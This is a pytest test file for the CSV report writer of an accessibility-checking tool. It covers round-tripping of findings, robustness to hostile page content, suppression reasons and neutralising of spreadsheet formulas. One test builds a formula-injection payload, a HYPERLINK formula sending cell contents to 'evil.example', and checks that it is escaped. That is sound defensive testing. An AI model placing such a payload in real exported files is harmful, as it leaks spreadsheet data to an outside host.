import csv
from pathlib import Path

import pytest

from a11ycheck import report
from a11ycheck.model import Report, Suppressed
from a11ycheck.report.csv_report import COLUMNS, harmless
from tests.report import factory


def rows(tmp_path: Path, made: Report) -> list[dict[str, str]]:
    (path,) = report.write(made, factory.settings(tmp_path, formats=("csv",)))
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def test_findings_and_untested_pages_come_back_as_they_were(tmp_path: Path) -> None:
    made = factory.ordinary()
    read = rows(tmp_path, made)
    findings = [(record.final_url, found) for record in made.pages for found in record.findings]
    tested = [row for row in read if row["outcome"] != "untested"]
    assert [(row["page"], row["selector"], row["snippet"], row["line"]) for row in tested] == [
        (url, found.target, found.snippet, str(found.line)) for url, found in findings
    ]
    assert [row["message"] for row in read if row["outcome"] == "untested"] == [
        "http-error", "login: Redirected to the login service.", "login", "timeout",
    ]  # fmt: skip


def test_a_hostile_page_breaks_no_row(tmp_path: Path) -> None:
    for row in rows(tmp_path, factory.hostile()):
        assert list(row) == list(COLUMNS)
        assert all(value.isprintable() for value in row.values())


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "＝", "＠", " =", "\t=", "\r\n=", "\u200b="])
def test_no_cell_is_a_formula(tmp_path: Path, start: str) -> None:
    attack = f'{start}HYPERLINK("https://evil.example/?"&A1)'
    pages = [factory.page(title=attack, findings=(factory.finding(snippet=attack, message=attack, target=attack),))]
    (row,) = rows(tmp_path, factory.report(pages, tested=1))
    for column in ("page_title", "snippet", "message", "selector"):
        assert row[column].startswith("'")


def test_the_reason_of_a_suppression_has_its_column(tmp_path: Path) -> None:
    suppressed = factory.finding(suppressed=Suppressed(reason="Poistuu syksyllä", number=1))
    pages = [factory.page(findings=(suppressed, factory.finding()))]
    assert [row["suppressed"] for row in rows(tmp_path, factory.report(pages, tested=1))] == ["Poistuu syksyllä", ""]


def test_ordinary_text_stays_as_it_is() -> None:
    assert harmless("a=b") == "a=b"
